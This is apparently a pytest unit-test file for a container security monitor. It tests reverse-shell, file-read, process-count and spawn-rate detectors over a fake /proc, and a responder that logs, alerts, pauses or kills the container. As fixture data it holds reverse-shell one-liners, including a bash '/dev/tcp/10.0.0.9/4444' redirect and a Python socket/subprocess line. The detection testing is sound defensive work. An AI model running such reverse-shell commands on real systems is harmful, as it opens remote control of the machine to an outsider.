"""The monitor engine over a fake /proc and cgroup, and the responder's decisions."""

from __future__ import annotations

from pathlib import Path

import pytest

from coi.monitor.audit import AuditLog, read
from coi.monitor.engine import Monitor, Settings
from coi.monitor.findings import Finding, Severity
from coi.monitor.respond import Responder
from tests.unit.test_monitor_fakeproc import FakeProc

MB = 1024 * 1024


def cgroup_with(tmp_path: Path, pids: list[int]) -> Path:
    cg = tmp_path / "cg" / "lxc.payload.c1"
    cg.mkdir(parents=True, exist_ok=True)
    (cg / "cgroup.procs").write_text("".join(f"{p}\n" for p in pids))
    return cg


def set_rchar(fake: FakeProc, pid: int, rchar: int) -> None:
    (fake.root / str(pid) / "io").write_text(f"rchar: {rchar}\nwchar: 0\n")


@pytest.fixture
def fake(tmp_path: Path) -> FakeProc:
    fake = FakeProc(tmp_path)
    fake.add(100, ["/sbin/init"], ppid=0, ns_pid=1)
    fake.add(200, ["bash"], ppid=100, ns_pid=50)
    return fake


def monitor(tmp_path: Path, fake: FakeProc, pids: list[int], **settings: object) -> Monitor:
    return Monitor("c1", Settings(**settings),
                   cgroup_with(tmp_path, pids), fake.root)


def test_reverse_shell_on_a_socket_is_critical_once(tmp_path: Path, fake: FakeProc) -> None:
    fake.add(300, ["python3", "-c", "exec(b64decode('...'))"], ppid=200, ns_pid=60,
             name="python3", fds={0: "socket:[77]", 1: "socket:[77]"})
    for pid in (100, 300):  # every process of a namespace shows its table
        fake.tcp(pid, 77, ("10.0.0.2", 40000), ("10.0.0.2", 4444))
    mon = monitor(tmp_path, fake, [100, 200, 300])
    found = mon.poll(now=1.0)
    assert [(f.severity, f.detector) for f in found] == [(Severity.CRITICAL, "reverse_shell")]
    assert found[0].evidence["pid"] == 300
    assert mon.poll(now=1.5) == [], "the same finding within the dedupe window"


def test_one_liner_setting_downgrades_command_line_matches(tmp_path: Path,
                                                          fake: FakeProc) -> None:
    cmd = ["python3", "-c", "import socket,subprocess;s=socket.socket();subprocess.call(1)"]
    fake.add(300, cmd, ppid=200, ns_pid=60)
    warn = monitor(tmp_path, fake, [100, 200, 300], reverse_shell_one_liners="warn")
    assert [f.severity for f in warn.poll(now=1.0)] == [Severity.WARNING]
    off = monitor(tmp_path, fake, [100, 200, 300], reverse_shell_one_liners="off")
    assert off.poll(now=1.0) == []


def test_large_read_from_page_cache_warns(tmp_path: Path, fake: FakeProc) -> None:
    for pid in (100, 200):
        set_rchar(fake, pid, 1000)
    mon = monitor(tmp_path, fake, [100, 200], file_read_threshold_mb=50.0,
                  file_read_rate_mb_per_sec=1000.0)
    assert mon.poll(now=0.0) == []
    set_rchar(fake, 200, 1000 + 120 * MB)  # a cat that bash reaped: 120 MB in 2 s
    found = mon.poll(now=2.0)
    assert [(f.severity, f.detector) for f in found] == [(Severity.WARNING, "file_read")]
    assert found[0].evidence["read_mb"] == 120.0


def test_network_download_is_not_a_workspace_read(tmp_path: Path, fake: FakeProc) -> None:
    net = fake.root / "100" / "net"
    net.mkdir()
    for pid in (100, 200):
        set_rchar(fake, pid, 0)
    (net / "dev").write_text("h\nh\n  eth0: 0 0 0\n")
    mon = monitor(tmp_path, fake, [100], file_read_threshold_mb=50.0)
    mon.poll(now=0.0)
    set_rchar(fake, 100, 300 * MB)
    (net / "dev").write_text(f"h\nh\n  eth0: {300 * MB} 0 0\n")
    assert mon.poll(now=2.0) == []


def test_process_count_near_the_limit_warns(tmp_path: Path, fake: FakeProc) -> None:
    pids = [100, 200, *range(1000, 1010)]
    for pid in range(1000, 1010):
        fake.add(pid, ["sleep", "1"], ppid=200)
    mon = monitor(tmp_path, fake, pids, process_limit=14, process_spawn_rate_per_sec=0)
    found = mon.poll(now=0.0)
    assert [(f.detector, f.evidence["count"]) for f in found] == [("process_count", 12)]


def test_spawn_rate(tmp_path: Path, fake: FakeProc) -> None:
    mon = monitor(tmp_path, fake, [100, 200], process_spawn_rate_per_sec=10)
    mon.poll(now=0.0)
    for pid in range(1000, 1030):
        fake.add(pid, ["true"], ppid=200)
    cgroup_with(tmp_path, [100, 200, *range(1000, 1030)])
    found = mon.poll(now=0.5)
    assert [f.detector for f in found] == ["process_spawn"]


def test_exec_events_only_look_at_the_container(tmp_path: Path, fake: FakeProc) -> None:
    fake.add(300, ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1"], ppid=200)
    fake.add(400, ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1"], ppid=1)
    (fake.root / "300" / "cgroup").write_text("0::/lxc.payload.c1/.lxc\n")
    (fake.root / "400" / "cgroup").write_text("0::/user.slice\n")
    mon = monitor(tmp_path, fake, [100, 200, 300])
    found = mon.on_exec([300, 400, 999], now=0.0)
    assert [(f.detector, f.evidence["pid"]) for f in found] == [("reverse_shell", 300)]


def test_settings_round_trip() -> None:
    settings = Settings(poll_interval=0.25, nflog_group=17000, process_limit=100)
    assert Settings.from_json(settings.to_json()) == settings
    assert Settings(process_count_threshold=500, process_limit=100).process_warning_at == 80


class FakeActions:
    def __init__(self, fail: set[str] | None = None) -> None:
        self.calls: list[str] = []
        self.fail = fail or set()

    def pause(self, finding: Finding) -> None:
        self._do("pause")

    def kill(self, finding: Finding) -> None:
        self._do("kill")

    def _do(self, what: str) -> None:
        self.calls.append(what)
        if what in self.fail:
            raise RuntimeError(what)


def finding(severity: Severity, key: str = "1") -> Finding:
    return Finding(severity, "test", "Test", {"pid": 1}, key=key)


@pytest.mark.parametrize(("severity", "action", "calls"), [
    (Severity.INFO, "logged", []), (Severity.WARNING, "alerted", []),
    (Severity.HIGH, "paused", ["pause"]), (Severity.CRITICAL, "killed", ["kill"])])
def test_responses(tmp_path: Path, severity: Severity, action: str, calls: list[str]) -> None:
    actions = FakeActions()
    log = AuditLog(tmp_path / "a.jsonl")
    responder = Responder("c1", log, Settings(), actions)
    responder.handle([finding(severity)])
    assert actions.calls == calls
    [entry] = read(log.path)
    assert (entry["severity"], entry["action"], entry["container"]) == (
        severity.label, action, "c1")


def test_automatic_actions_can_be_turned_off(tmp_path: Path) -> None:
    actions = FakeActions()
    responder = Responder("c1", AuditLog(tmp_path / "a.jsonl"),
                          Settings(auto_pause_on_high=False, auto_kill_on_critical=False),
                          actions)
    written = responder.handle([finding(Severity.HIGH), finding(Severity.CRITICAL, "2")])
    assert [e["action"] for e in written] == ["paused", "alerted"]
    assert actions.calls == ["pause"], "a CRITICAL still pauses when killing is off"


def test_worst_first_and_nothing_after_a_kill(tmp_path: Path) -> None:
    actions = FakeActions()
    responder = Responder("c1", AuditLog(tmp_path / "a.jsonl"), Settings(), actions)
    written = responder.handle([finding(Severity.WARNING), finding(Severity.CRITICAL, "2")])
    assert [e["action"] for e in written] == ["killed"]
    assert responder.state == "killed"


def test_failed_kill_falls_back_to_pausing(tmp_path: Path) -> None:
    actions = FakeActions(fail={"kill"})
    responder = Responder("c1", AuditLog(tmp_path / "a.jsonl"), Settings(), actions)
    assert [e["action"] for e in responder.handle([finding(Severity.CRITICAL)])] == ["paused"]
    assert responder.state == "paused"
    responder.resumed()
    assert responder.state == "running"


def test_what_the_user_unfroze_for_does_not_pause_again(tmp_path: Path) -> None:
    actions = FakeActions()
    responder = Responder("c1", AuditLog(tmp_path / "a.jsonl"), Settings(), actions)
    responder.handle([finding(Severity.HIGH)])
    responder.resumed()
    again = responder.handle([finding(Severity.HIGH), finding(Severity.HIGH, "other")])
    assert [e["action"] for e in again] == ["alerted", "paused"]


def test_a_failing_poll_or_source_never_raises_out_of_the_watchman(tmp_path: Path) -> None:
    from coi.session.watchman import Watchman

    class Broken:
        settings = Settings()
        container = "c1"

        def poll(self, now: float) -> list[Finding]:
            raise KeyError("a detector bug")

        def on_exec(self, pids: object, now: float) -> list[Finding]:
            raise IndexError("a parser bug")

    class Source:
        closed = False

        def fileno(self) -> int:
            return 42

        def drain(self) -> list[int]:
            return [1]

        def close(self) -> None:
            self.closed = True

    responder = Responder("c1", AuditLog(tmp_path / "a.jsonl"), Settings(), FakeActions())
    watchman = Watchman(None, Broken(), responder)  # type: ignore[arg-type]
    source = Source()
    watchman.sources["exec"] = source
    assert watchman.poll(1.0) is None
    assert watchman.events([42], 1.0) == ([], False)
    assert source.closed and "exec" not in watchman.sources
